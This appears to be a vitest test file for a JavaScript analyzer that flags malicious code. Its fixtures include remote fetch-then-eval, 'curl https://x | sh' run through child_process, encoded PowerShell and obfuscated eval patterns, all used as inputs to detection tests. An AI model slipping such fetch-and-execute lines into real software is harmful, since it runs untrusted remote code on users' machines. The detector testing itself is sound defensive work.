import * as fc from 'fast-check';
import { expect, it, test } from 'vitest';
import { javascriptFormat } from '../../../../utils/formats/code/javascript';
import { analyze, utf8 } from '../../../fixtures/analyze';
import { untold } from '../../../fixtures/texts';

const read = (text: string) => analyze(javascriptFormat, utf8(text));
const names = Array.from({ length: 200 }, (_, index) => `_0x${(0x1000 + index).toString(16)}`).join(',');

test.each([
  ['decoded', 'eval(atob("YWxlcnQoMSk="))'],
  ['decoded from characters', 'new Function(String.fromCharCode(97))()'],
  ['decoded from bytes', "eval(Buffer.from('YQ==', 'base64').toString())"],
  ['fetched', 'eval(await (await fetch("https://x")).text())'],
  ['fetched, then run', 'fetch("https://x").then((r) => r.text()).then((t) => eval(t))'],
  ['fetched, handed to eval', 'fetch("https://x").then(r => r.text()).then(eval)'],
  ['fetched by a process', "require('child_process').execSync('curl -s https://x | sh')"],
  ['encoded for a process', 'exec("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A")'],
  ['fetched by arguments', "spawn('sh', ['-c', 'curl https://x | sh'])"],
  ['obfuscated', `var ${names};eval(${names.slice(0, 7)})`],
])('JavaScript that runs code which is %s is dangerous', async (_, text) => {
  const { verdict, findings } = await read(text);
  expect(verdict).toBe('dangerous');
  expect(untold(findings)).toEqual([]);
});

test.each([
  ['statements', 'console.log(1)', 'suspicious'],
  [
    'a module of a bundle',
    'eval("__webpack_require__.r(x);\\n//# sourceURL=webpack:///https://x")',
    'suspicious',
  ],
  ['the global object', 'var g = Function("return this")() || (0, eval)("this")', 'suspicious'],
  ['a parsed answer', 'fetch("https://x").then((r) => JSON.parse(atob(r)))', 'suspicious'],
  ['advice in a text', 'const help = "curl -fsSL https://x | sh"', 'suspicious'],
  ['a process without a shape', "execSync('git rev-parse HEAD')", 'suspicious'],
  ['short names', `var ${names}`, 'suspicious'],
  ['comments only', '// eval(atob("x"))\n/* a\n * b\n', 'safe'],
  ['nothing', '', 'safe'],
])('JavaScript with %s', async (_, text, verdict) => expect((await read(text)).verdict).toBe(verdict));

it.each([
  ['#!/usr/bin/env node\n', true],
  ['#!/usr/local/bin/deno run', true],
  ['#!/bin/sh\n', false],
  ['let a', false],
])('%j by content: %s', (text, matches) =>
  expect(javascriptFormat.matches(utf8(text), text.length)).toBe(matches),
);

it('of any shape is read to an end', async () => {
  await fc.assert(fc.asyncProperty(fc.string(), async (text) => void (await read(`exec("${text}\n${text}`))));
});
